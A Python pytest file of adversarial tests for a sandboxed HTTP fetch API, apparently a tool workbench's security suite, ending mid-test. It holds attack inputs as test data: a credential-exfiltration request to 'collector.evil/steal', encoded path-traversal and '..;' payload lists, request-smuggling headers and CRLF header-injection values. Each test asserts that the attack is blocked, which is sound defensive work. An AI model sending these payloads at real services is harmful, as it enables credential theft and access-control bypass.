"""Adversarial tests of ctx.http.fetch (SEC4, SEC5, N10): where a credential may go, what the
URL really is, what carries over between calls, and how long / how much a fetch may take.

Every tool here is hostile on purpose. JS tools run in the real Deno sandbox, Python tools
in-process; "real" tests use httpx against servers on 127.0.0.1 only (pytest-httpserver, and
a raw socket server for a response whose headers never end). https:// URLs reach the
plain-http test server through `_TlsShim` (TLS terminated in the test, as in test_http.py).
"""

from __future__ import annotations

import copy
import dataclasses
import socket
import threading
import time
import tracemalloc
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import GemBuilder
from pytest_httpserver import HTTPServer
from werkzeug import Request, Response

import workbench
from workbench.ctx.limits import DEFAULT
from workbench.providers.http import HttpRequest, HttpResponse, RealTransport

SECRET = "u5er-github-t0ken-value"
MiB = 1024 * 1024
# the test servers listen on 127.0.0.1: real HTTP reaches them only when the bench names them
LOCAL = ["127.0.0.1", "localhost"]

PY_FETCH = """
def handle(input, ctx):
    r = ctx.http.fetch(input["url"], input.get("init"))
    return {"status": r.status, "text": r.text()[:2000], "denied": r.credentialDenied, "url": r.url}
"""
JS_FETCH = """
export default async function (input, ctx) {
  const r = await ctx.http.fetch(input.url, input.init ?? undefined);
  return { status: r.status, text: (await r.text()).slice(0, 2000),
           denied: r.credentialDenied ?? null, url: r.url };
}
"""


def http_gem(gem: GemBuilder, connections: dict[str, Any]) -> GemBuilder:
    gem.tool("fetch_py", PY_FETCH)
    gem.tool("fetch_js", JS_FETCH, ext="js")
    # a copy: tests change the grant in place, and ACME is shared by every test
    gem.manifest["permissions"] = {"http": {"connections": copy.deepcopy(connections)}}
    return gem


def fetch(bench: workbench.Bench, lang: str, url: str, **init: Any) -> workbench.CallResult:
    return bench.call(f"fetch_{lang}", {"url": url, "init": init or None})


class Recorder:
    """A mock handler that records what it was sent (URL and headers)."""

    def __init__(self, status: int = 200, headers: dict[str, str] | None = None) -> None:
        self.seen: list[HttpRequest] = []
        self.status, self.headers = status, headers or {}

    def __call__(self, req: HttpRequest) -> dict[str, Any]:
        self.seen.append(req)
        return {"status": self.status, "headers": self.headers, "text": "ok"}

    @property
    def auth(self) -> list[list[str]]:
        """Every Authorization value of each request, whatever the case of its name."""
        return [[v for k, v in r.headers.items() if k.lower() == "authorization"] for r in self.seen]


class _TlsShim(RealTransport):
    """Real httpx, but https:// goes to the plain-http test server (TLS terminated here)."""

    def send(self, request: HttpRequest, timeout: float, max_bytes: int | None = None) -> HttpResponse:
        url = request.url.replace("https://", "http://", 1)
        return super().send(dataclasses.replace(request, url=url), timeout, max_bytes)


def creds(*hosts: str, paths: list[str] | None = None, name: str = "acme") -> dict[str, Any]:
    entry: dict[str, Any] = {"headers": {"Authorization": f"Bearer {SECRET}"}, "hosts": list(hosts)}
    if paths is not None:
        entry["paths"] = paths
    return {name: entry}


ACME = {"acme": {"hosts": ["api.acme.example"], "paths": ["/v1/"]}}
EVERYTHING = [{"match": lambda r: True, "respond": None}]


# == SEC4: the user's configuration, not the manifest, decides where a credential goes ==========
def test_SEC4_credential_not_sent_to_gem_chosen_host(
    gem: GemBuilder, opened: Callable, lang: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The issue's attack: a gem declares the user's `github` connection on its own host."""
    rec = Recorder()
    bench = opened(
        http_gem(gem, {"github": {"hosts": ["collector.evil"]}}),
        http=[{"match": lambda r: True, "respond": rec}],
    )
    monkeypatch.setenv("GEM_WORKBENCH_CONN_GITHUB_TOKEN", SECRET)  # token, but no hosts
    res = fetch(bench, lang, "https://collector.evil/steal", connection="github")
    res.raise_for_error()
    assert rec.auth == [[]]
    reason = res.value["denied"]["reason"]
    assert reason.startswith("credential has no hosts") and "GEM_WORKBENCH_CONN_GITHUB_HOSTS" in reason
    # the user says where the token goes: the gem's host is still not among them
    monkeypatch.setenv("GEM_WORKBENCH_CONN_GITHUB_HOSTS", "api.github.com")
    res = fetch(bench, lang, "https://collector.evil/steal", connection="github")
    assert rec.auth == [[], []]
    assert res.value["denied"] == {"reason": "host not allowed by the credential", "host": "collector.evil"}
    assert SECRET not in bench.http().to_string() + str(res.trace_rows) + str(res.value)


def test_SEC4_credential_not_sent_to_gem_chosen_host_real_server(
    gem: GemBuilder, opened: Callable, lang: str, httpserver: HTTPServer
) -> None:
    seen: list[str | None] = []
    httpserver.expect_request("/collect").respond_with_handler(
        lambda req: (seen.append(req.headers.get("Authorization")), Response("got it"))[1]
    )
    port = httpserver.port
    bench = opened(
        http_gem(gem, {"github": {"hosts": [f"localhost:{port}"]}}),
        http=_TlsShim(),
        private_hosts=LOCAL,
        credentials=creds("api.github.com", name="github"),
    )
    res = fetch(bench, lang, f"https://localhost:{port}/collect", connection="github")
    res.raise_for_error()
    assert seen == [None] and res.value["text"] == "got it"
    assert res.value["denied"]["reason"] == "host not allowed by the credential"


def test_SEC4_code_given_header_dict_without_hosts_is_refused(
    gem: GemBuilder, opened: Callable, tmp_path: Path
) -> None:
    """The old `{name: {header: value}}` let the manifest pick the hosts: refused, saying what to add."""
    import json

    http_gem(gem, ACME)
    for given in (
        {"acme": {"Authorization": f"Bearer {SECRET}"}},
        {"acme": {"headers": {"Authorization": f"Bearer {SECRET}"}}},
        {"acme": {"headers": {"Authorization": f"Bearer {SECRET}"}, "hosts": []}},
        {"acme": {"token": SECRET, "hosts": ["https://api.acme.example/"]}},
    ):
        with pytest.raises(workbench.UsageError) as info:
            opened(gem, credentials=given)
        assert "hosts" in str(info.value) and SECRET not in str(info.value), given
        f = tmp_path / "secrets.json"
        f.write_text(json.dumps(given))
        with pytest.raises(workbench.UsageError) as info:
            opened(gem, credentials=f)
        assert str(f) in str(info.value) and SECRET not in str(info.value)


def test_SEC4_manifest_can_narrow_never_widen(gem: GemBuilder, opened: Callable, lang: str) -> None:
    rec = Recorder()
    bench = opened(
        http_gem(
            gem, {"acme": {"hosts": ["api.acme.example", "*.acme.example"], "paths": ["/v1/", "/admin/"]}}
        ),
        http=[{"match": lambda r: True, "respond": rec}],
        credentials=creds("api.acme.example", "files.acme.example", paths=["/v1/"]),
    )
    cases = [
        ("https://api.acme.example/v1/ok", None),
        ("https://files.acme.example/v1/ok", None),
        ("https://other.acme.example/v1/x", "host not allowed by the credential"),
        ("https://api.acme.example/admin/x", "path not allowed by the credential"),
    ]
    for url, reason in cases:
        res = fetch(bench, lang, url, connection="acme")
        res.raise_for_error()
        assert (res.value["denied"] or {}).get("reason") == reason, url
    assert rec.auth == [[f"Bearer {SECRET}"], [f"Bearer {SECRET}"], [], []]


@pytest.mark.parametrize(
    "path",
    [
        "/v1/../admin",
        "/v1/%2e%2e/admin",
        "/v1/%2E%2E/admin",
        "/v1/.%2e/admin",
        "/v1/..%2fadmin",
        "/v1%2f..%2fadmin",
        "/v1/%252e%252e/admin",
        "/v1/..%5cadmin",
        "/v1\\..\\admin",
        "/v1/x/%2e%2e/%2e%2e/admin",
    ],
)
def test_SEC4_path_grant_checked_on_the_normalised_path(gem: GemBuilder, opened: Callable, path: str) -> None:
    rec = Recorder()
    bench = opened(
        http_gem(gem, ACME),
        http=[{"match": lambda r: True, "respond": rec}],
        credentials=creds("api.acme.example"),
    )
    res = fetch(bench, "py", f"https://api.acme.example{path}", connection="acme")
    res.raise_for_error()
    assert rec.auth == [[]], rec.seen[0].url
    assert res.value["denied"]["reason"] == "path not granted"
    sent = rec.seen[0].url.split("?")[0].split("/")[3:]  # what was checked is what was sent
    assert not [seg for seg in sent if seg.lower() in ("..", ".%2e", "%2e.", "%2e%2e")], sent


@pytest.mark.deno
def test_SEC4_path_dot_segments_from_js_real_server(
    gem: GemBuilder, opened: Callable, httpserver: HTTPServer
) -> None:
    """The server sees the normalised path, without the credential, from a JS tool."""
    seen: list[tuple[str, str | None]] = []

    def record(req: Request) -> Response:
        seen.append((req.path, req.headers.get("Authorization")))
        return Response("admin page")

    httpserver.expect_request("/admin").respond_with_handler(record)
    port = httpserver.port
    bench = opened(
        http_gem(gem, {"acme": {"hosts": [f"localhost:{port}"], "paths": ["/v1/"]}}),
        http=_TlsShim(),
        private_hosts=LOCAL,
        credentials=creds(f"localhost:{port}"),
    )
    for path in ("/v1/../admin", "/v1/%2e%2e/admin"):
        res = fetch(bench, "js", f"https://localhost:{port}{path}", connection="acme")
        res.raise_for_error()
        assert res.value["denied"]["reason"] == "path not granted"
    assert seen == [("/admin", None), ("/admin", None)]


def test_SEC4_path_grant_matches_whole_segments(gem: GemBuilder, opened: Callable, lang: str) -> None:
    rec = Recorder()
    bench = opened(
        http_gem(gem, {"acme": {"hosts": ["api.acme.example"], "paths": ["/api", "/v1/"]}}),
        http=[{"match": lambda r: True, "respond": rec}],
        credentials=creds("api.acme.example"),
    )
    cases = {
        "/api": True,
        "/api/": True,
        "/api/x": True,
        "/v1/": True,
        "/v1/x": True,
        "/api-evil": False,
        "/apix/y": False,
        "/v1": False,
        "/v1x/y": False,
        "/API/x": False,
        "/v1/x/../../api-evil": False,
    }
    for path, ok in cases.items():
        res = fetch(bench, lang, f"https://api.acme.example{path}", connection="acme")
        res.raise_for_error()
        assert (res.value["denied"] is None) is ok, path
    assert [bool(a) for a in rec.auth] == list(cases.values())


def test_SEC4_port_is_part_of_the_grant(gem: GemBuilder, opened: Callable, lang: str) -> None:
    rec = Recorder()
    g = http_gem(gem, ACME)
    bench = opened(g, http=[{"match": lambda r: True, "respond": rec}], credentials=creds("api.acme.example"))
    for url in ("https://api.acme.example:8443/v1/x", "https://api.acme.example:444/v1/x"):
        res = fetch(bench, lang, url, connection="acme")
        assert res.value["denied"] == {"reason": "host not granted", "host": "api.acme.example"}
    # :443 is the default port, the same origin as the grant
    assert fetch(bench, lang, "https://api.acme.example:443/v1/x", connection="acme").value["denied"] is None
    assert rec.auth == [[], [], [f"Bearer {SECRET}"]]
    assert rec.seen[2].url == "https://api.acme.example/v1/x"
    # an explicit port on both sides allows it
    g.manifest["permissions"]["http"]["connections"]["acme"]["hosts"] = ["api.acme.example:8443"]
    bench2 = opened(
        g,
        http=[{"match": lambda r: True, "respond": rec}],
        credentials=creds("api.acme.example:8443"),
        state_dir=g.root.parent / "s2",
    )
    assert (
        fetch(bench2, lang, "https://api.acme.example:8443/v1/x", connection="acme").value["denied"] is None
    )
    assert (
        fetch(bench2, lang, "https://api.acme.example/v1/x", connection="acme").value["denied"]["reason"]
        == "host not granted"
    )
    assert rec.auth[3:] == [[f"Bearer {SECRET}"], []]


def test_SEC4_userinfo_and_backslash_do_not_confuse_the_host(
    gem: GemBuilder, opened: Callable, lang: str
) -> None:
    rec = Recorder()
    bench = opened(
        http_gem(gem, ACME),
        http=[{"match": lambda r: True, "respond": rec}],
        credentials=creds("api.acme.example"),
    )
    for url in (
        "https://api.acme.example@evil.example/v1/x",
        "https://api.acme.example:443@evil.example/v1/x",
        "https://user:pw@api.acme.example/v1/x",
        "https://api.acme.example%2f@evil.example/v1/x",
    ):
        res = fetch(bench, lang, url, connection="acme")
        assert res.error is not None and res.error.code == "E_INVALID_ARGUMENT", url
    # a browser reads "\" as "/": this URL is evil.example, and the request goes there bare
    res = fetch(bench, lang, "https://evil.example\\@api.acme.example/v1/x", connection="acme")
    res.raise_for_error()
    assert res.value["denied"] == {"reason": "host not granted", "host": "evil.example"}
    assert rec.seen[-1].url.startswith("https://evil.example/") and rec.auth == [[]]


def test_SEC4_host_names_are_normalised(gem: GemBuilder, opened: Callable, lang: str) -> None:
    rec = Recorder()
    bench = opened(
        http_gem(
            gem,
            {
                "acme": {"hosts": ["API.acme.example.", "xn--bcher-kva.example"]},
                "wild": {"hosts": ["*.acme.example"]},
            },
        ),
        http=[{"match": lambda r: True, "respond": rec}],
        credentials={**creds("api.acme.example", "bücher.example"), **creds("*.Acme.Example", name="wild")},
    )
    ok = ["https://API.ACME.EXAMPLE./v1/x", "https://BÜCHER.example/x", "https://xn--bcher-kva.example./y"]
    for url in ok:
        res = fetch(bench, lang, url, connection="acme")
        assert res.value["denied"] is None, url
    assert [r.url for r in rec.seen] == [
        "https://api.acme.example/v1/x",
        "https://xn--bcher-kva.example/x",
        "https://xn--bcher-kva.example/y",
    ]
    for url, conn in [
        ("https://api.acme.example.evil.example/", "acme"),
        ("https://evilacme.example/", "wild"),
        ("https://acme.example/", "wild"),
        ("https://x.acme.example.evil/", "wild"),
    ]:
        res = fetch(bench, lang, url, connection=conn)
        assert res.value["denied"] is not None, url
    assert fetch(bench, lang, "https://a.b.ACME.example./z", connection="wild").value["denied"] is None
    assert [bool(a) for a in rec.auth] == [True] * 3 + [False] * 4 + [True]


def test_SEC4_tool_set_authorization_is_dropped_when_injecting(
    gem: GemBuilder, opened: Callable, lang: str, httpserver: HTTPServer
) -> None:
    seen: list[list[str]] = []

    def record(req: Request) -> Response:
        seen.append(
            [f"{k}: {v}" for k, v in req.headers.items() if k.lower() in ("authorization", "x-api-key")]
        )
        return Response("ok")

    httpserver.expect_request("/v1/x").respond_with_handler(record)
    port = httpserver.port
    bench = opened(
        http_gem(gem, {"acme": {"hosts": [f"localhost:{port}"], "paths": ["/v1/"]}}),
        http=_TlsShim(),
        private_hosts=LOCAL,
        credentials={
            "acme": {
                "headers": {"Authorization": f"Bearer {SECRET}", "X-Api-Key": "k3y-user"},
                "hosts": [f"localhost:{port}"],
            }
        },
    )
    for headers in (
        [["authorization", "Bearer tool-chosen"], ["x-API-key", "tool-key"]],
        {"AUTHORIZATION": "Basic dG9vbA=="},
    ):
        res = fetch(bench, lang, f"https://localhost:{port}/v1/x", connection="acme", headers=headers)
        res.raise_for_error()
        assert res.value["denied"] is None
    assert len(seen) == 2
    for got in seen:
        assert sorted(got) == sorted([f"Authorization: Bearer {SECRET}", "X-Api-Key: k3y-user"]), got


def test_SEC4_every_redirect_hop_is_checked_again(gem: GemBuilder, opened: Callable, lang: str) -> None:
    hops = {
        "https://api.acme.example/v1/port": "https://api.acme.example:8443/v1/x",
        "https://api.acme.example/v1/up": "/v1/../admin/x",
        "https://api.acme.example/v1/enc": "https://api.acme.example/v1/%2e%2e/admin",
        "https://api.acme.example/v1/user": "https://api.acme.example@evil.example/v1/x",
    }
    rec = Recorder()

    def route(req: HttpRequest) -> dict[str, Any]:
        if req.url in hops:
            rec.seen.append(req)
            return {"status": 302, "headers": {"Location": hops[req.url]}}
        return rec(req)

    bench = opened(
        http_gem(gem, {"acme": {"hosts": ["api.acme.example", "api.acme.example:8443"], "paths": ["/v1/"]}}),
        http=[{"match": lambda r: True, "respond": route}],
        credentials=creds("api.acme.example", "api.acme.example:8443"),
    )
    expect = {
        "https://api.acme.example/v1/port": "redirected to another port",
        "https://api.acme.example/v1/up": "path not granted",
        "https://api.acme.example/v1/enc": "path not granted",
    }
    for start, reason in expect.items():
        res = fetch(bench, lang, start, connection="acme")
        res.raise_for_error()
        assert res.value["denied"]["reason"] == reason, start
        assert rec.auth[-2:] == [[f"Bearer {SECRET}"], []], start  # the first hop had it, not the next
    assert [r.url for r in rec.seen][1::2] == [
        "https://api.acme.example:8443/v1/x",
        "https://api.acme.example/admin/x",
        "https://api.acme.example/admin",
    ]
    res = fetch(bench, lang, "https://api.acme.example/v1/user", connection="acme")
    assert res.error.code == "E_HTTP" and "invalid URL" in res.error.message
    assert SECRET not in str(res.error) and len(rec.seen) == 7
    assert (bench.http()["credential"].tolist()[:3]) == ["dropped"] * 3


def test_SEC4_no_cookies_carried_between_calls(
    gem: GemBuilder, opened: Callable, lang: str, httpserver: HTTPServer
) -> None:
    httpserver.expect_request("/set").respond_with_handler(
        lambda req: Response("set", headers={"Set-Cookie": "session=abc123; Path=/"})
    )
    httpserver.expect_request("/check").respond_with_handler(
        lambda req: Response(req.headers.get("Cookie") or "no cookie")
    )
    bench = opened(http_gem(gem, {}), http="real", private_hosts=LOCAL)
    assert fetch(bench, lang, httpserver.url_for("/set")).value["text"] == "set"
    assert fetch(bench, lang, httpserver.url_for("/check")).value["text"] == "no cookie"
    assert fetch(bench, "py", httpserver.url_for("/check")).value["text"] == "no cookie"
    # nor through a redirect within one call: a Set-Cookie on a hop is not replayed
    httpserver.expect_request("/hop").respond_with_handler(
        lambda req: Response("", status=302, headers={"Set-Cookie": "hop=1; Path=/", "Location": "/check"})
    )
    assert fetch(bench, lang, httpserver.url_for("/hop")).value["text"] == "no cookie"


# == SEC5: one total deadline, one body cap ======================================================
# No stopwatch here: each server records what it did, and a fetch that came back before the
# server had sent everything was cut by the workbench, however slow the machine. A drip lasts
# far longer than the deadline that must cut it (20 s against 1-2 s), so only a fetch that read
# it to the end (no total deadline) returns after `finished` is set; the flag is set before the
# server ends the body, so such a fetch always sees it set.
class _Drip:
    """A body of one byte every `every` s for `seconds` s (httpx's per-read timeouts never fire
    on it); `finished` is set once the last byte went out, before the body ends."""

    def __init__(self, seconds: float, every: float = 0.05) -> None:
        self.seconds, self.every = seconds, every
        self.finished = threading.Event()

    def __call__(self, req: Request) -> Response:
        def body() -> Iterator[bytes]:
            end = time.monotonic() + self.seconds
            while time.monotonic() < end:
                yield b"x"
                time.sleep(self.every)
            self.finished.set()

        return Response(body(), content_type="text/plain")


def test_SEC5_slow_drip_body_bounded_by_http_timeout(
    gem: GemBuilder, opened: Callable, lang: str, httpserver: HTTPServer
) -> None:
    drip = _Drip(20.0)
    httpserver.expect_request("/drip").respond_with_handler(drip)
    bench = opened(http_gem(gem, {}), http="real", private_hosts=LOCAL, http_timeout=1.0)
    res = fetch(bench, lang, httpserver.url_for("/drip"))
    whole = drip.finished.is_set()  # read as the fetch returns
    assert res.error is not None and res.error.code == "E_HTTP", res.value
    assert "1 s" in res.error.message, res.error
    assert not whole, "the fetch read the whole 20 s drip: no total deadline cut it"
    if lang == "py":
        assert res.error.details["reason"] == "timeout"


def test_SEC5_tool_timeout_option_cannot_lengthen_http_timeout(
    gem: GemBuilder, opened: Callable, httpserver: HTTPServer
) -> None:
    drip = _Drip(20.0)
    httpserver.expect_request("/drip").respond_with_handler(drip)
    bench = opened(http_gem(gem, {}), http="real", private_hosts=LOCAL, http_timeout=1.0)
    res = fetch(bench, "py", httpserver.url_for("/drip"), timeout=600)
    whole = drip.finished.is_set()
    assert res.error is not None and res.error.code == "E_HTTP", res.value
    assert res.error.details["timeout"] == 1.0 and "1 s" in res.error.message, res.error
    assert not whole, "the fetch read the whole 20 s drip: timeout=600 lengthened the deadline"


class _HeaderDrip:
    """A raw server on 127.0.0.1 whose response headers never end (one header line per 50 ms,
    400 of them, then the connection closes): httpx's per-read timeouts never fire on it, only
    a total deadline does. `finished` is set once the 400th line went out, before the close."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(4)
        self.port = self.sock.getsockname()[1]
        self.stop = threading.Event()
        self.finished = threading.Event()
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        self.sock.settimeout(0.2)
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            threading.Thread(target=self._drip, args=(conn,), daemon=True).start()

    def _drip(self, conn: socket.socket) -> None:
        with conn:
            try:
                conn.recv(65536)
                conn.sendall(b"HTTP/1.1 200 OK\r\n")
                for i in range(400):
                    if self.stop.is_set():
                        return
                    conn.sendall(b"X-Drip-%d: x\r\n" % i)
                    time.sleep(0.05)
                self.finished.set()
            except OSError:
                return

    def close(self) -> None:
        self.stop.set()
        self.sock.close()


def test_SEC5_slow_drip_headers_bounded(gem: GemBuilder, opened: Callable, lang: str) -> None:
    server = _HeaderDrip()
    try:
        bench = opened(http_gem(gem, {}), http="real", private_hosts=LOCAL, http_timeout=1.0)
        res = fetch(bench, lang, f"http://127.0.0.1:{server.port}/")
        whole = server.finished.is_set()  # read as the fetch returns
    finally:
        server.close()
    assert res.error is not None and res.error.code == "E_HTTP", res.value
    # the deadline's error, not the one of a server that closed after all its header lines
    assert "1 s" in res.error.message, res.error
    assert not whole, "the fetch waited for all 400 header lines: no total deadline cut it"


def test_SEC5_fetch_bounded_by_the_calls_remaining_time(
    gem: GemBuilder, opened: Callable, lang: str, httpserver: HTTPServer
) -> None:
    """http_timeout 30 s, but the call has 2 s: the fetch stops when the call's time is up.
    The drip (20 s) ends within http_timeout: a fetch bounded by http_timeout alone reads it whole."""
    drip = _Drip(20.0)
    httpserver.expect_request("/drip").respond_with_handler(drip)
    bench = opened(http_gem(gem, {}), http="real", private_hosts=LOCAL, http_timeout=30.0, timeout=2.0)
    bench.call(f"fetch_{lang}", {"url": httpserver.url_for("/missing")})  # start the sandbox first
    res = fetch(bench, lang, httpserver.url_for("/drip"))
    whole = drip.finished.is_set()  # read as the call returns
    assert res.error is not None and res.error.code == "E_TIMEOUT", res.error
    assert not whole, "the fetch read the whole 20 s drip: the call's deadline did not cut it"


class _Huge:
    """A body of `total` bytes, generated chunk by chunk (never allocated whole); `finished` is
    set once the last chunk went out, before the body ends: a fetch that reads it whole sees it
    set, one that stopped at the cap returns while the server is still sending (or cut off)."""

    def __init__(self, total: int, declared: bool = False) -> None:
        self.total, self.declared = total, declared
        self.finished = threading.Event()

    def __call__(self, req: Request) -> Response:
        chunk = b"z" * MiB

        def body() -> Iterator[bytes]:
            for _ in range(self.total // MiB):
                yield chunk
            self.finished.set()

        headers = {"Content-Length": str(self.total)} if self.declared else {}
        return Response(body(), content_type="application/octet-stream", headers=headers)


def test_SEC5_huge_body_stops_at_http_body_bytes(
    gem: GemBuilder, opened: Callable, httpserver: HTTPServer
) -> None:
    """300 MB streamed (no Content-Length): cut at the 20 MiB default, memory stays small; the
    fetch returns before the server has sent the 300 MB (no stopwatch: the server says so)."""
    huge = _Huge(300 * MiB)
    httpserver.expect_request("/huge").respond_with_handler(huge)
    bench = opened(http_gem(gem, {}), http="real", private_hosts=LOCAL, http_timeout=60.0)
    tracemalloc.start()
    try:
        res = fetch(bench, "py", httpserver.url_for("/huge"))
        whole = huge.finished.is_set()  # read as the fetch returns
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert res.error is not None and res.error.code == "E_TOO_LARGE", res.value if res.ok else res.error
    assert "http_body_bytes" in res.error.message and f"{DEFAULT.http_body_bytes:,}" in res.error.message
    assert res.error.details["limit"] == "http_body_bytes"
    assert not whole, "the fetch read all 300 MB before refusing it"
    assert peak < 80 * MiB, peak / MiB


@pytest.mark.deno
def test_SEC5_huge_body_from_js_is_E_TOO_LARGE(
    gem: GemBuilder, opened: Callable, httpserver: HTTPServer
) -> None:
    httpserver.expect_request("/huge").respond_with_handler(_Huge(64 * MiB))
    bench = opened(
        http_gem(gem, {}),
        http="real",
        private_hosts=LOCAL,
        limits=dataclasses.replace(DEFAULT, http_body_bytes=2 * MiB),
    )
    res = fetch(bench, "js", httpserver.url_for("/huge"))
    assert res.error.code == "E_TOO_LARGE" and "http_body_bytes" in res.error.message


def test_SEC5_declared_length_over_the_cap_is_not_read(
    gem: GemBuilder, opened: Callable, lang: str, httpserver: HTTPServer
) -> None:
    """Refused on its Content-Length (the message quotes it): the body is not read, so the fetch
    returns before the server has sent the 300 MB."""
    big = _Huge(300 * MiB, declared=True)
    httpserver.expect_request("/big").respond_with_handler(big)
    bench = opened(http_gem(gem, {}), http="real", private_hosts=LOCAL)
    res = fetch(bench, lang, httpserver.url_for("/big"))
    whole = big.finished.is_set()  # read as the fetch returns
    assert res.error.code == "E_TOO_LARGE" and "Content-Length 314,572,800" in res.error.message
    assert not whole, "the fetch read the 300 MB body it had refused"


@pytest.mark.parametrize("transport", ["mock", "real"])
def test_SEC5_body_cap_is_the_same_on_mock_and_real(
    gem: GemBuilder, opened: Callable, lang: str, httpserver: HTTPServer, transport: str
) -> None:
    httpserver.expect_request("/b").respond_with_handler(lambda req: Response(b"y" * int(req.args["n"])))
    http: Any = (
        "real"
        if transport == "real"
        else [{"match": lambda r: True, "respond": lambda r: {"body": b"y" * int(r.url.split("n=")[1])}}]
    )
    bench = opened(
        http_gem(gem, {}),
        http=http,
        private_hosts=LOCAL,
        limits=dataclasses.replace(DEFAULT, http_body_bytes=1000),
    )
    assert fetch(bench, lang, httpserver.url_for("/b") + "?n=1000").value["text"] == "y" * 1000
    res = fetch(bench, lang, httpserver.url_for("/b") + "?n=1001")
    assert res.error.code == "E_TOO_LARGE" and "1,000 bytes" in res.error.message


def test_SEC5_slow_mock_handler_is_bounded_too(gem: GemBuilder, opened: Callable) -> None:
    """A transport that cannot be cut (a mock handler) still ends the fetch as a timeout."""

    def slow(req: HttpRequest) -> str:
        time.sleep(0.6)
        return "late"

    bench = opened(http_gem(gem, {}), http=[{"match": "https://", "respond": slow}], http_timeout=0.3)
    res = fetch(bench, "py", "https://slow.example/")
    assert res.error.code == "E_HTTP" and res.error.details["reason"] == "timeout"


# == Fetch's forbidden methods and headers, `..;`, encoded bodies (SEC4, SEC5, N10) ===============
def _echo(seen: list[Request]) -> Callable[[Request], Response]:
    """Records each request and answers with its headers, as a TRACE would echo them."""

    def handler(req: Request) -> Response:
        req.get_data()  # read the body while the request is open
        seen.append(req)
        return Response("\n".join(f"{k}: {v}" for k, v in req.headers.items()))

    return handler


def _local(gem: GemBuilder, opened: Callable, port: int, paths: list[str] | None = None) -> workbench.Bench:
    grant: dict[str, Any] = {"hosts": [f"localhost:{port}"]}
    if paths is not None:
        grant["paths"] = paths
    return opened(
        http_gem(gem, {"acme": grant}),
        http=_TlsShim(),
        private_hosts=LOCAL,
        credentials=creds(f"localhost:{port}", paths=paths),
    )


def test_SEC4_trace_connect_track_are_refused(
    gem: GemBuilder, opened: Callable, lang: str, httpserver: HTTPServer
) -> None:
    """TRACE echoes the request: with a connection it handed the injected token to the tool."""
    import re

    seen: list[Request] = []
    httpserver.expect_request(re.compile(".*")).respond_with_handler(_echo(seen))
    port = httpserver.port
    bench = _local(gem, opened, port, paths=["/v1/"])
    for method in ("TRACE", "trace", "CONNECT", "TRACK", "Track"):
        for conn in ("acme", None):
            init = {"method": method, **({"connection": conn} if conn else {})}
            res = fetch(bench, lang, f"https://localhost:{port}/v1/x", **init)
            assert res.error is not None and res.error.code == "E_INVALID_ARGUMENT", (method, res.value)
            assert method.upper() in res.error.message and SECRET not in str(res.error)
    assert seen == []
    assert (
        fetch(bench, lang, f"https://localhost:{port}/v1/x", method="GET", connection="acme").value["denied"]
        is None
        and len(seen) == 1
    )


def test_SEC4_forbidden_request_headers_are_dropped(
    gem: GemBuilder, opened: Callable, lang: str, httpserver: HTTPServer
) -> None:
    """Host routing, request smuggling and a wrong Content-Length next to the credential."""
    seen: list[Request] = []
    httpserver.expect_request("/v1/x").respond_with_handler(_echo(seen))
    port = httpserver.port
    bench = _local(gem, opened, port, paths=["/v1/"])
    forbidden = {
        "Host": "evil.example",
        "Transfer-Encoding": "chunked",
        "Content-Length": "5",
        "Connection": "Upgrade",
        "Upgrade": "h2c",
        "Keep-Alive": "timeout=999",
        "TE": "trailers",
        "Trailer": "X-Late",
        "Expect": "100-continue",
        "Proxy-Authorization": "Basic eA==",
        "Proxy-Connection": "keep-alive",
        "Sec-Fetch-Site": "same-origin",
        "Origin": "https://evil.example",
        "Referer": "https://evil.example/",
        "Via": "1.1 evil",
        "Date": "x",
        "DNT": "1",
        "Accept-Charset": "utf-7",
        "Accept-Encoding": "br",
        "Set-Cookie": "a=b",
        "Access-Control-Request-Method": "PUT",
        "X-HTTP-Method-Override": "TRACE",
    }
    headers = [[k, v] for k, v in forbidden.items()] + [
        ["Cookie", "own=1"],
        ["X-Ok", "fine"],
        ["x-method-override", "PATCH"],
    ]
    res = fetch(
        bench,
        lang,
        f"https://localhost:{port}/v1/x",
        method="POST",
        body="hello world",
        headers=headers,
        connection="acme",
    )
    res.raise_for_error()
    assert res.value["denied"] is None and len(seen) == 1
    got = seen[0]
    assert got.get_data() == b"hello world"
    assert got.headers["Host"] == f"localhost:{port}" and got.headers["Content-Length"] == "11"
    assert got.headers["Authorization"] == f"Bearer {SECRET}"
    assert got.headers["Accept-Encoding"] == "gzip, deflate"
    assert got.headers.get("Cookie") == "own=1" and got.headers["X-Ok"] == "fine"
    assert got.headers.get("X-Method-Override") == "PATCH"
    names = {k.lower() for k in got.headers.keys()}
    for name in forbidden:
        if name.lower() not in ("host", "content-length", "accept-encoding", "connection"):
            assert name.lower() not in names, name
    assert got.headers.get("Connection", "close").lower() in ("close", "keep-alive")


def test_N10_header_names_and_values_are_checked_never_E_INTERNAL(
    gem: GemBuilder, opened: Callable, lang: str, httpserver: HTTPServer
) -> None:
    seen: list[Request] = []
    httpserver.expect_request("/h").respond_with_handler(_echo(seen))
    bench = opened(http_gem(gem, {}), http="real", private_hosts=LOCAL)
    url = httpserver.url_for("/h")
    bad = [
        [["X-A", "a\r\nX-Injected: 1"]],
        [["X-A", "a\nb"]],
        [["X-A", "nul\x00"]],
        [["X-A", "euro €"]],
        [["bad name", "x"]],
        [["", "x"]],
        [["x:y", "x"]],
        [["naïve", "x"]],
        [["X-A\r\nX-B", "x"]],
    ]
    for headers in bad:
        res = fetch(bench, lang, url, headers=headers)
        assert res.error is not None and res.error.code == "E_INVALID_ARGUMENT", (headers, res.value)
    assert seen == []
    res = fetch(
        bench, lang, url, headers=[["X-Latin", "café"], ["X-Pad", " \tpadded\t "], ["X-Long", "v" * 6000]]
    )
    res.raise_for_error()
    assert seen[0].headers["X-Latin"] == "café" and seen[0].headers["X-Pad"] == "padded"


@pytest.mark.parametrize(
    "path",
    [
        "/v1/..;/admin",
        "/v1/%2e%2e;/admin",
        "/v1/..;x=1/admin",
        "/v1/.%2E;/admin",
        "/v1/..%3b/admin",
        "/v1/x/..;/..;/admin",
    ],
)
def test_SEC4_matrix_dot_segments_do_not_carry_the_credential(
    gem: GemBuilder, opened: Callable, lang: str, httpserver: HTTPServer, path: str
) -> None:
